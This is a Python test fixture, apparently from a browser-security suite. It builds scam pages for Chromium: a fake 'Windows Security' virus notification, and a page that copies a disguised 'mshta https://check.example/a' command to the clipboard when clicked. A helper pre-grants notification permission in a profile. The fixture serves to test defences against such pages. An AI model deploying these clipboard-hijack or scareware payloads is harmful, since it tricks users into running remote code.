"""What a page of scammers does in a real Chromium: it sends messages, and copies commands."""

import json
from pathlib import Path

ALARM = "Your computer is infected with 5 viruses. Renew your protection now."
SENDS = (
    f"<script>new Notification('Windows Security', {{body: '{ALARM}'}})</script>"
    "<title>News</title>Rain in the north."
)
BAIT = "mshta https://check.example/a # I am not a robot"
COPIES = (
    f'<title>Check</title><body style="height:90vh" '
    f"onclick=\"navigator.clipboard.writeText('{BAIT}')\">Please click here."
)


def allow_messages(profile: Path, site: str) -> None:
    """Let a site send messages to a Chromium that has not begun, as a click on Allow would."""
    (profile / "Default").mkdir(parents=True)
    allowed = {"notifications": {f"{site},*": {"setting": 1}}}
    facts = {"profile": {"content_settings": {"exceptions": allowed}}}
    (profile / "Default" / "Preferences").write_text(json.dumps(facts), "utf-8")
